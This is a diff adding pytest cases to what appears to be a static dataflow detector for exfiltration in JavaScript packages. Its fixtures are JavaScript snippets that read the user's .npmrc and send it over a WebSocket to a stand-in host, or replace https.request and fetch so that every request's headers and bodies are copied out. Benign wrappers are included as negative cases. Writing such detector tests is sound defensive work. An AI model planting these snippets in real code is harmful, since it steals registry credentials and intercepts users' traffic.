@@ -463,3 +463,75 @@ def test_destructured_env_names_are_variables_not_the_whole_environment() -> Non
     assert kinds(plain) == set()
     secret = "const { NPM_TOKEN } = process.env;\nfetch('https://collect.example.net/p', {method: 'POST', body: NPM_TOKEN});"
     assert kinds(secret) == {Kind.SECRET_ENV}
+
+
+RC = "const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        RC
+        + "const WS = require('ws');\nconst ws = new WS('wss://c.example.invalid');\nws.on('open', function () { this.send(rc); });",
+        RC
+        + "const ws = new WebSocket('wss://c.example.invalid');\nws.onopen = function () { this.send(rc); };",
+    ],
+    ids=["listener-this", "handler-property-this"],
+)
+def test_this_in_a_function_listener_is_the_emitter(code: str) -> None:
+    (flow,) = flows_of(code).flows
+    assert flow.source.kind is Kind.SECRET_FILE
+    assert flow.sink.destination == "c.example.invalid"
+    assert flow.sink.load_time
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        RC + "const ws = new WebSocket('wss://c.example.invalid');\nws.onopen = () => { this.send(rc); };",
+        RC + "const e = new (require('events'))();\ne.on('ready', function () { this.send(rc); });",
+        RC
+        + "const WS = require('ws');\nconst ws = new WS('wss://c.example.invalid');\nws.on('open', function () { [1].forEach(function () { this.send(rc); }); });",
+    ],
+    ids=["arrow-has-the-outer-this", "emitter-is-not-network", "nested-function-has-its-own-this"],
+)
+def test_this_that_is_not_a_network_emitter_sends_nothing(code: str) -> None:
+    assert not flows_of(code).flows
+
+
+HOOK_HTTPS = "const https = require('https');\nconst orig = https.request;\n"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        HOOK_HTTPS
+        + "https.request = function (opts, cb) {\n  orig.call(https, { host: 'c.example.invalid', method: 'POST' }).end(JSON.stringify(opts.headers));\n  return orig.apply(this, arguments);\n};",
+        "const orig = globalThis.fetch;\nglobalThis.fetch = async (url, init) => {\n  if (init && init.body) orig('https://c.example.invalid/c', { method: 'POST', body: init.body });\n  return orig(url, init);\n};",
+    ],
+    ids=["https-request-headers-copied", "fetch-bodies-copied"],
+)
+def test_a_replaced_network_function_forwarding_the_applications_requests(code: str) -> None:
+    (flow,) = [f for f in flows_of(code).flows if f.sink.destination is not None]
+    assert flow.source.kind is Kind.INTERCEPTED
+    assert flow.sink.destination == "c.example.invalid"
+    assert flow.sink.load_time  # the hook is installed at load; the wrapper runs on every request
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # nock-style: answers from a table, sends nothing
+        "const http = require('http');\nconst table = {};\nhttp.request = function (opts) { return table[opts.host]; };",
+        # APM-style: times the request, stores a metric; a separate flush reports it
+        HOOK_HTTPS
+        + "const metrics = [];\nhttps.request = function (opts) {\n  const start = Date.now();\n  const req = orig.apply(this, arguments);\n  req.on('response', () => metrics.push({ host: opts.host, ms: Date.now() - start }));\n  return req;\n};\nexports.flush = () => fetch('https://collector.example.com/m', { method: 'POST', body: JSON.stringify(metrics) });",
+        # a proxy agent: every request goes where the application sent it
+        "const orig = globalThis.fetch;\nconst agent = {};\nglobalThis.fetch = (url, init) => orig(url, { ...init, dispatcher: agent });",
+    ],
+    ids=["mock-table", "apm-metrics-flushed-later", "proxy-agent"],
+)
+def test_a_wrapper_that_does_not_copy_requests_out_is_no_exfiltration(code: str) -> None:
+    from airlock.analysis.dataflow.judge import is_exfiltration
+
+    assert not [f for f in flows_of(code).flows if is_exfiltration(f)]
